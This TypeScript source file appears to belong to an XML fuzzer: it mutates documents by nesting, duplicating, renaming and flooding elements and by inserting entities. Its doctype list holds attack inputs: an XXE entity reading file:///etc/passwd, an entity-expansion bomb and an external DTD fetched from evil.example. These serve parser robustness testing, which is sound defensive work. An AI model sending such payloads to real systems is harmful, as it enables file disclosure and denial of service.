import type { Random } from '../random';
import { type Mutation, replaced, run, sizeOf } from './mutation';
import { nastyText } from './nasty';
import { payload } from './payloads';
import { attributesIn, type Span, spansOf, textsIn } from './spans';

type OnElement = (text: string, element: Span, random: Random, all: readonly Span[]) => string;

/** A mutation of one element, where there is any. */
const onElement = (name: string, change: OnElement): Mutation => ({
  name,
  apply(text, random) {
    const all = spansOf(text);
    const element = random.anyOf(all);
    return element ? change(text, element, random, all) : text;
  },
});

const whole = (text: string, { start, end }: Span) => text.slice(start, end);
const content = (text: string, { inner, innerEnd }: Span) => text.slice(inner, innerEnd);
const around = (text: string, { inner, innerEnd }: Span, change: (content: string) => string) =>
  replaced(text, inner, innerEnd, change(text.slice(inner, innerEnd)));
const escaped = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

const nested = [
  ...[
    'p',
    'div',
    'q',
    'b',
    'em',
    'a',
    'span',
    'block',
    'ul><li',
    'table><tr><td',
    'blockquote',
    'NewsComponent',
    'pre',
  ],
  ...['sup', 'x:y', 'person', 'inlineXML', 'body', 'html', 'figure', 'dl><dd', 'itemSet', 'newsItem', 'item', 'code'],
] as const;

/** Elements inside each other, some levels deep; closed, or not. */
function nest(inner: string, name: string, levels: number, isClosed: boolean): string {
  const names = name.split('><');
  const start = names.map((one) => `<${one}>`).join('');
  const end = [...names]
    .reverse()
    .map((one) => `</${one}>`)
    .join('');
  const each = inner.trim().slice(0, 20).replace(/[<>&]/g, '');
  return `${`${start}${each}`.repeat(levels)}${inner}${isClosed ? end.repeat(levels) : ''}`;
}

const doctypes = [
  '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
  '<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.6//EN" "nitf-3-6.dtd">',
  '<!DOCTYPE x',
  '<!DOCTYPE html>',
] as const;

const references = [
  ...[
    '&e;',
    '&c;',
    '&nbsp;',
    '&#0;',
    '&#xD800;',
    '&#99999999;',
    '&#x110000;',
    '&amp',
    '&',
    '&#',
    '&;',
    '&lt;b&gt;',
    '&amp;amp;',
  ],
  ...[
    '&AMP;',
    '&hellip;',
    '&__proto__;',
    '&constructor;',
    '&a b;',
    '&#65',
    '&#x;',
    '&apos;',
    '&quot;',
    '&NotEqualTilde;',
  ],
] as const;

/** What can be done to a tree of elements; most of it leaves XML that is sound. */
export const soundXmlMutations: readonly Mutation[] = [
  onElement('duplicate', (text, one, random) =>
    replaced(text, one.end, one.end, run(whole(text, one), random.pick([1, 2, 20, 1_000, 20_000]), 800_000)),
  ),
  onElement('move', (text, one, random, all) => {
    const other = random.anyOf(all);
    if (!other || (other.inner >= one.start && other.inner <= one.end)) return text;
    const moved = whole(text, one);
    return other.inner > one.end
      ? replaced(replaced(text, other.inner, other.inner, moved), one.start, one.end, '')
      : replaced(replaced(text, one.start, one.end, ''), other.inner, other.inner, moved);
  }),
  onElement('delete', (text, one) => replaced(text, one.start, one.end, '')),
  onElement('empty', (text, one) => around(text, one, () => '')),
  onElement('unwrap', (text, one) => replaced(text, one.start, one.end, content(text, one))),
  onElement('nest', (text, one, random) => {
    const name = random.chance(0.3) ? one.name : random.pick(nested);
    return around(text, one, (inner) => nest(inner, name, random.pick([3, 10, 60, 200, 300, 1_000, 5_000]), true));
  }),
  onElement('rename', (text, one, random, all) => {
    const as = random.chance(0.8)
      ? random.anyOf(all)?.name
      : random.pick(['__proto__', 'constructor', 'x:y', 'script']);
    const start = text.slice(one.start, one.inner).replace(one.name, () => as ?? '');
    const end = text.slice(one.innerEnd, one.end).replace(one.name, () => as ?? '');
    return replaced(text, one.start, one.end, start + content(text, one) + end);
  }),
  onElement('cdata', (text, one, random) =>
    around(
      text,
      one,
      (inner) =>
        `<![CDATA[${random.chance(0.5) ? payload(random).replaceAll(']]>', '') : inner.replaceAll(']]>', '')}]]>`,
    ),
  ),
  onElement('comment', (text, one, random) =>
    around(text, one, (inner) =>
      random.pick([`<!--${inner.replaceAll('--', '')}-->`, `<?x ${inner.replaceAll('?>', '')}?>`]),
    ),
  ),
  onElement('flood', (text, one, random) => {
    const name = random.pick(['p', 'br', 'q', 'media', 'subject', 'keyword', 'located', 'x']);
    return around(text, one, (inner) => inner + run(`<${name}>a</${name}>`, sizeOf(random), 400_000));
  }),
  onElement('text', (text, one, random) => around(text, one, () => escaped(nastyText(random)))),
  {
    name: 'text',
    apply(text, random) {
      const place = random.anyOf(textsIn(text));
      return place ? replaced(text, ...place, escaped(nastyText(random))) : text;
    },
  },
  {
    name: 'attribute',
    apply(text, random) {
      const one = random.anyOf(attributesIn(text));
      return one ? replaced(text, one.value, one.valueEnd, escaped(nastyText(random))) : text;
    },
  },
  {
    name: 'attribute gone',
    apply(text, random) {
      const one = random.anyOf(attributesIn(text));
      return one ? replaced(text, one.start, one.valueEnd + 1, '') : text;
    },
  },
  onElement('attributes', (text, one, random) => {
    const many = Array.from({ length: random.pick([1, 5, 300, 5_000]) }, (_, at) => ` a${at}="x"`).join('');
    const end = text[one.inner - 2] === '/' ? one.inner - 2 : one.inner - 1;
    return replaced(text, end, end, many);
  }),
  onElement('active', (text, one, random) => around(text, one, (inner) => inner + escaped(payload(random)))),
];

/** What breaks the XML, or is refused in it. */
export const brokenXmlMutations: readonly Mutation[] = [
  onElement('active', (text, one, random) => around(text, one, (inner) => inner + payload(random))),
  onElement('open', (text, one, random) =>
    around(text, one, (inner) => nest(inner, random.pick(nested), random.pick([1, 10, 300, 5_000, 50_000]), false)),
  ),
  onElement('end gone', (text, one) => replaced(text, one.innerEnd, one.end, '')),
  onElement('start gone', (text, one) => replaced(text, one.start, one.inner, '')),
  {
    name: 'namespace',
    apply(text, random) {
      const one = random.anyOf(attributesIn(text).filter(({ name }) => name.startsWith('xmlns')));
      if (!one) return text;
      const as = random.pick([
        '',
        'http://iptc.org/std/nar/2006-10-01/',
        'http://www.w3.org/1999/xhtml',
        'urn:x',
        '__proto__',
      ]);
      return random.chance(0.7)
        ? replaced(text, one.value, one.valueEnd, as)
        : replaced(text, one.start, one.valueEnd + 1, random.pick(['', `xmlns:x="${as}"`, `xmlns:xml="${as}"`]));
    },
  },
  {
    name: 'doctype',
    apply(text, random) {
      const at = text.startsWith('<?xml') ? text.indexOf('?>') + 2 : 0;
      return replaced(text, at, at, random.pick(doctypes)).replace('>a', '>&c;a');
    },
  },
  {
    name: 'entities',
    apply(text, random) {
      const [at = 0] = random.anyOf(textsIn(text)) ?? [];
      return replaced(
        text,
        at,
        at,
        run(random.pick(references), random.pick([1, 1, 1, 100, 20_000, 100_000]), 500_000),
      );
    },
  },
  {
    name: 'all of one name',
    apply: (text, random) => text.replace(/<(\/?)[\w:.-]+/g, `<$1${random.pick(['p', 'a', 'x'])}`),
  },
];
